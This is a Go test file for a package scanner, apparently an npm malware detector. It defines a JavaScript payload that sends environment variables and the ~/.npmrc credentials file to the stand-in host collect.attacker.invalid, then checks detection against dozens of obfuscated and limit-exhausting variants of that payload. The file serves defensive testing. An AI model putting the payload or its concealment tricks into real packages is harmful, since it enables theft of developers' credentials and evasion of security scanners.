package analyzer_test

import (
	"context"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/lockwarden/lockwarden/analyzer"
	"github.com/lockwarden/lockwarden/analyzer/issue"
	"github.com/lockwarden/lockwarden/analyzer/javascript"
	"github.com/lockwarden/lockwarden/analyzer/worker"
)

// payload reads the environment and a file with credentials and posts both to a
// host that does not exist; nothing here is ever run.
const payload = `const fs=require('fs'),os=require('os'),https=require('https');
const d=JSON.stringify({e:process.env,n:fs.readFileSync(os.homedir()+'/.npmrc','utf8')});
const r=https.request({host:'collect.attacker.invalid',path:'/x',method:'POST'});r.write(d);r.end();
`

// stolen is the data of the payload, and sent what sends v.
const stolen = `JSON.stringify({e:process.env,n:require('fs').readFileSync(require('os').homedir()+'/.npmrc','utf8')})`

func sent(https, v string) string {
	return `const r=` + https + `.request({host:'collect.attacker.invalid',method:'POST'});r.write(` + v + `);r.end();`
}

// scanFiles scans a package of files.
func scanFiles(t *testing.T, s *analyzer.Scanner, files ...string) (worst issue.Severity, report analyzer.Report) {
	t.Helper()
	manifest := `{"name":"case","version":"1.0.0","main":"index.js"}`
	if files[0] != "package.json" {
		files = append([]string{"package.json", manifest}, files...)
	}
	scanned, err := s.ScanTarball(context.Background(), tarball(t, files...))
	if err != nil {
		t.Fatal(err)
	}
	report = analyzer.NewReport(issue.Input{Name: "case", Version: "1.0.0"}, scanned)
	worst = issue.Info
	for _, i := range report.Issues {
		worst = min(worst, i.Severity)
	}
	return worst, report
}

func saidIn(r *analyzer.Report) string {
	var out []string
	for _, i := range r.Issues {
		out = append(out, i.Severity.String()+" "+i.ID)
	}
	for _, b := range r.Blind {
		out = append(out, "blind "+fmt.Sprint(b))
	}
	return strings.Join(out, ", ")
}

func codes(text string, by func(int, byte) int) string {
	var out []string
	for i := range len(text) {
		out = append(out, fmt.Sprint(by(i, text[i])))
	}
	return strings.Join(out, ",")
}

// TestDecodedInPlace hides the payload in ways that only pure code undoes; the
// harmless text hidden the same way is quiet.
func TestDecodedInPlace(t *testing.T) {
	s := open(t, worker.Limits{Step: 60 * time.Second})
	xor := func(text string) string { return codes(text, func(_ int, c byte) int { return int(c) ^ 77 }) }
	b64 := func(text string) string { return base64.StdEncoding.EncodeToString([]byte(text)) }
	reversed := func(text string) string {
		b := []byte(text)
		for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
			b[i], b[j] = b[j], b[i]
		}
		return string(b)
	}
	ways := map[string]func(text string) string{
		"xor-map": func(p string) string { return `eval([` + xor(p) + `].map(c=>String.fromCharCode(c^77)).join(''))` },
		"xor-function": func(p string) string {
			return `eval([` + xor(p) + `].map(function(c){return String.fromCharCode(c^77)}).join(''))`
		},
		"xor-foreach": func(p string) string {
			return `let s='';[` + xor(p) + `].forEach(c=>{s+=String.fromCharCode(c^77)});eval(s)`
		},
		"xor-for": func(p string) string {
			return `var a=[` + xor(p) + `],s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]^77);eval(s)`
		},
		"xor-for-of": func(p string) string {
			return `var s='';for(const c of [` + xor(p) + `])s+=String.fromCharCode(c^77);eval(s)`
		},
		"xor-while": func(p string) string {
			return `var a=[` + xor(p) + `],s='';while(a.length){s+=String.fromCharCode(a.shift()^77)}eval(s)`
		},
		"xor-reduce": func(p string) string { return `eval([` + xor(p) + `].reduce((s,c)=>s+String.fromCharCode(c^77),''))` },
		"xor-buffer": func(p string) string { return `eval(Buffer.from([` + xor(p) + `]).map(c=>c^77).toString())` },
		"xor-bytes": func(p string) string {
			return `eval(new TextDecoder().decode(Uint8Array.from([` + xor(p) + `].map(c=>c^77))))`
		},
		"xor-spread": func(p string) string { return `eval(String.fromCharCode(...[` + xor(p) + `].map(c=>c^77)))` },
		"xor-apply":  func(p string) string { return `eval(String.fromCharCode.apply(null,[` + xor(p) + `].map(c=>c^77)))` },
		"xor-from": func(p string) string {
			return `const a=[` + xor(p) + `];eval(Array.from(a,c=>String.fromCharCode(c^77)).join(''))`
		},
		"xor-iife": func(p string) string {
			return `(function(){var s='';[` + xor(p) + `].forEach(function(c){s+=String.fromCharCode(c^77)});new Function('require','process',s)(require,process)})()`
		},
		"xor-condition": func(p string) string {
			return `if(process.platform!=='aix'){var s='';[` + xor(p) + `].forEach(c=>{s+=String.fromCharCode(c^77)});eval(s)}`
		},
		"xor-exported": func(p string) string {
			return `function go(){var s='';[` + xor(p) + `].forEach(c=>{s+=String.fromCharCode(c^77)});eval(s)}go();`
		},
		"rot": func(p string) string {
			return `eval([` + codes(p, func(i int, c byte) int { return int(c) + i%7 }) + `].map((c,i)=>String.fromCharCode(c-i%7)).join(''))`
		},
		"hex": func(p string) string {
			return `eval('` + fmt.Sprintf("%x", p) + `'.match(/../g).map(h=>String.fromCharCode(parseInt(h,16))).join(''))`
		},
		"base64": func(p string) string { return `eval(Buffer.from('` + b64(p) + `','base64').toString())` },
		"reversed": func(p string) string {
			return `eval(Buffer.from('` + reversed(b64(p)) + `'.split('').reverse().join(''),'base64').toString('utf8'))`
		},
		"atob": func(p string) string { return `eval(atob('` + b64(p) + `'))` },
		"pieces": func(p string) string {
			return "eval(`${atob('" + b64(p[:len(p)/3*3/2/3*3]) + "')}${atob('" + b64(p[len(p)/3*3/2/3*3:]) + "')}`)"
		},
		"statement": func(p string) string {
			return `var s='';s+=atob('` + b64(p[:90]) + `');s+=atob('` + b64(p[90:]) + `');eval(s)`
		},
		"json": func(p string) string {
			return `eval(JSON.parse('{"a":"` + b64(p) + `"}').a.split('').map(x=>x).join('')&&atob(JSON.parse('{"a":"` + b64(p) + `"}').a))`
		},
		"escaped":  func(p string) string { return `eval(unescape('` + escapedAll(p) + `'))` },
		"percent":  func(p string) string { return `var t=decodeURIComponent('` + escapedAll(p) + `');eval(t)` },
		"table":    func(p string) string { return `var t={a:atob('` + b64(p) + `')};var k=['a'].map(x=>x)[0];eval(t[k])` },
		"filtered": func(p string) string { return `eval(['x',` + quotedParts(p) + `].filter((x,i)=>i>0).join(''))` },
	}
	harmless := "module.exports = function (a, b) { return a.length + b.length; };\n"
	for name, way := range ways {
		t.Run(name, func(t *testing.T) {
			if worst, r := scanFiles(t, s, "index.js", way(payload)); worst > issue.High {
				t.Errorf("%s: %s\n%s", worst, saidIn(&r), way("…" + payload[:90])[:60])
			}
			if text := way(payload); strings.Contains(text, "atob(") || strings.Contains(text, "'base64'") {
				return // that alone is said, whatever it hides
			}
			if worst, r := scanFiles(t, s, "index.js", way(harmless+strings.Repeat("// nothing here does anything at all\n", 4))); worst < issue.Medium || !r.Complete {
				t.Errorf("harmless: %s: %s", worst, saidIn(&r))
			}
		})
	}
	t.Run("file", func(t *testing.T) {
		for _, way := range []string{`eval(require('./c.json').a)`, `const {a}=require('./c.json');eval(a)`, `eval(JSON.parse(require('fs').readFileSync(__dirname+'/c.json','utf8')).a)`,
			`const fs=require('fs'),path=require('path');eval(JSON.parse(fs.readFileSync(path.join(__dirname,'c.json'))).a)`} {
			if worst, r := scanFiles(t, s, "index.js", way, "c.json", fmt.Sprintf(`{"a":%q}`, payload)); worst > issue.High {
				t.Errorf("%s: %s: %s", way, worst, saidIn(&r))
			}
		}
	})
}

func escapedAll(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, "%%%02x", s[i])
	}
	return b.String()
}

func quotedParts(s string) string {
	var out []string
	for len(s) > 0 {
		n := min(40, len(s))
		out = append(out, fmt.Sprintf("%q", s[:n]))
		s = s[n:]
	}
	return strings.Join(out, ",")
}

// TestLimitsHideNothing grows one thing in the payload past every limit: however
// many there are, it is at least what it is with one.
func TestLimitsHideNothing(t *testing.T) {
	s := open(t, worker.Limits{Step: 120 * time.Second})
	many := func(n int, f func(i int) string) string {
		var b strings.Builder
		for i := range n {
			b.WriteString(f(i))
		}
		return b.String()
	}
	num := func(format string) func(int) string {
		return func(i int) string { return strings.ReplaceAll(format, "{i}", fmt.Sprint(i)) }
	}
	ways := map[string]struct {
		sizes []int
		files func(n int) []string
	}{
		"alternatives": {[]int{3, 30, 500}, func(n int) []string {
			return []string{`var m;switch(+process.argv[9]){` + many(n, num(`case {i}:m='x{i}';break;`)) + `default:m='https'}` + sent(`require(m)`, stolen)}
		}},
		"module alternatives": {[]int{3, 30, 200}, func(n int) []string {
			return []string{`var m;switch(+process.argv[9]){` + many(n, num(`case {i}:m=require('mod{i}');break;`)) + `default:m=require('https')}` + sent(`m`, stolen)}
		}},
		"properties": {[]int{10, 6000}, func(n int) []string {
			return []string{`var o={};` + many(n, num(`o.p{i}='t{i}';`)) + `o.z=require('https');` + sent(`o.z`, stolen)}
		}},
		"elements": {[]int{17, 70, 6000}, func(n int) []string {
			return []string{`var a=[` + many(n, num(`'t{i}',`)) + `require('https')];for(const m of a){` + sent(`m`, stolen) + `}`}
		}},
		"functions": {[]int{3, 60}, func(n int) []string {
			return []string{`var f=[` + many(n, num(`function(a){return {i}},`)) + `function(d){` + sent(`require('https')`, `d`) + `}];for(const g of f)g(` + stolen + `)`}
		}},
		"prototypes": {[]int{3, 300}, func(n int) []string {
			return []string{`class C0{go(d){` + sent(`require('https')`, `d`) + `}}` + many(n, func(i int) string { return fmt.Sprintf("class C%d extends C%d{}", i+1, i) }) + fmt.Sprintf(`new C%d().go(%s)`, n, stolen)}
		}},
		"calls": {[]int{3, 40}, func(n int) []string {
			return []string{many(n, func(i int) string { return fmt.Sprintf("function f%d(d){return f%d(d)}", i, i+1) }) + fmt.Sprintf(`function f%d(d){%s}f0(%s)`, n, sent(`require('https')`, `d`), stolen)}
		}},
		"identities": {[]int{3, 30}, func(n int) []string {
			return []string{many(n, num(`function f{i}(d){return d}`)) + sent(many(n, num(`f{i}(`))+`require('https')`+strings.Repeat(")", n), stolen)}
		}},
		"modules": {[]int{3, 30}, func(n int) []string {
			files := []string{`require('./m0.js').f(` + stolen + `)`}
			for i := range n {
				files = append(files, fmt.Sprintf("m%d.js", i), fmt.Sprintf(`const a=require('./m%d.js');exports.f=function(x){return a.f(x)};`, i+1))
			}
			return append(files, fmt.Sprintf("m%d.js", n), `exports.f=function(d){`+sent(`require('https')`, `d`)+`}`)
		}},
		"arguments": {[]int{3, 50}, func(n int) []string {
			return []string{`function f(` + many(n, num(`a{i},`)) + `d){` + sent(`require('https')`, `d`) + `}f(` + many(n, num(`{i},`)) + stolen + `)`}
		}},
		"callers": {[]int{3, 40}, func(n int) []string {
			return []string{`function f(d){` + sent(`require('https')`, `d`) + `}` + many(n, num(`function c{i}(){f('x{i}')}c{i}();`)) + `f(` + stolen + `)`}
		}},
		"members": {[]int{3, 600}, func(n int) []string {
			return []string{`const h=require('https');` + many(n, num(`h.a{i};`)) + sent(`h`, stolen)}
		}},
		"properties of the data": {[]int{3, 100}, func(n int) []string {
			return []string{`var o={` + many(n, num(`k{i}:{i},`)) + `z:` + stolen + `};` + sent(`require('https')`, `JSON.stringify(o)`)}
		}},
		"requests before": {[]int{3, 80}, func(n int) []string {
			return []string{`const h=require('https');` + many(n, num(`h.get('https://example.com/{i}');`)) + `;` + sent(`h`, stolen)}
		}},
		"decoders before": {[]int{1, 3}, func(n int) []string {
			return []string{`if(process.argv[40]){` + many(n, num(`var _0xa{i}=['a','b'];(function(_0x2,_0x3){while(!![]){_0x2.push(_0x2.shift())}}(_0xa{i},0x1f));`)) +
				`}eval([` + codes(payload, func(_ int, c byte) int { return int(c) ^ 77 }) + `].map(c=>String.fromCharCode(c^77)).join(''))`}
		}},
		"programs before": {[]int{3, 60}, func(n int) []string {
			return []string{many(n, num(`eval('var x{i} = ({i});');`)) + `eval(atob('` + base64.StdEncoding.EncodeToString([]byte(payload)) + `'))`}
		}},
	}
	for name, way := range ways {
		t.Run(name, func(t *testing.T) {
			first := issue.Critical
			for i, n := range way.sizes {
				worst, r := scanFiles(t, s, append([]string{"index.js"}, way.files(n)...)...)
				if i == 0 {
					first = worst
				}
				if name == "functions" && worst > issue.High && saidBlind(&r, "functions that a call may be of") {
					continue // nothing is found any more, but that is said
				}
				if worst > first || worst > issue.High {
					t.Errorf("%d: %s, with %d %s: %s", n, worst, way.sizes[0], first, saidIn(&r))
				}
			}
		})
	}
}

// saidBlind reports whether a blind spot of a limit is in the report.
func saidBlind(r *analyzer.Report, limit string) bool {
	for _, b := range r.Blind {
		if b.Kind == javascript.BlindBudget && strings.HasPrefix(b.What, limit) {
			return true
		}
	}
	return false
}

// TestDecodingBudgetIsSaid burns the decoder's budget in code that runs as the
// package is loaded: that alone is said, and never green.
func TestDecodingBudgetIsSaid(t *testing.T) {
	s := open(t, worker.Limits{Step: 120 * time.Second})
	turn := `var _0xa1=['a','b'];(function(_0x2,_0x3){while(!![]){_0x2.push(_0x2.shift())}}(_0xa1,0x1f));eval(_0xa1[0]+_0xa1[1]);`
	worst, r := scanFiles(t, s, "index.js", turn)
	if worst > issue.High || !saidBlind(&r, "steps of decoding") {
		t.Errorf("%s: %s", worst, saidIn(&r))
	}
	var many strings.Builder
	for i := range 210 {
		fmt.Fprintf(&many, "eval('var x%d = (%d);');\n", i, i)
	}
	if worst, r = scanFiles(t, s, "index.js", many.String()); worst > issue.High || !saidBlind(&r, "hidden programs of one script") {
		t.Errorf("%s: %s", worst, saidIn(&r))
	}
}
